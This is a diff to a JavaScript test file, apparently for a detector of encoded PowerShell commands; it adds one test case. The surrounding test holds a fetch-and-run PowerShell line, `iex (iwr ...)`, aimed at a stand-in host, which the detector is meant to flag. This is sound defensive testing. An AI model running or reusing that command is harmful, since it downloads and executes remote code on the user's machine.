@@ -170,6 +170,10 @@ describe('commands', () => {
       assert.ok(done(`Buffer.from('${inHex}', 'hex').toString('base64')`).includes('encoded-command'));
     });
 
+    it('are not hidden where nothing is known of them', () => {
+      assert.ok(!done(`Buffer.from(require('x').command, 'utf16le').toString('base64')`).includes('encoded-command'));
+    });
+
     it('do what they say in either case', () => {
       const evil = `iex (iwr https://collect.invalid/a.ps1)`;
       assert.ok(done(`Buffer.from('${evil}', 'utf16le').toString('base64')`).includes('download-and-run'));
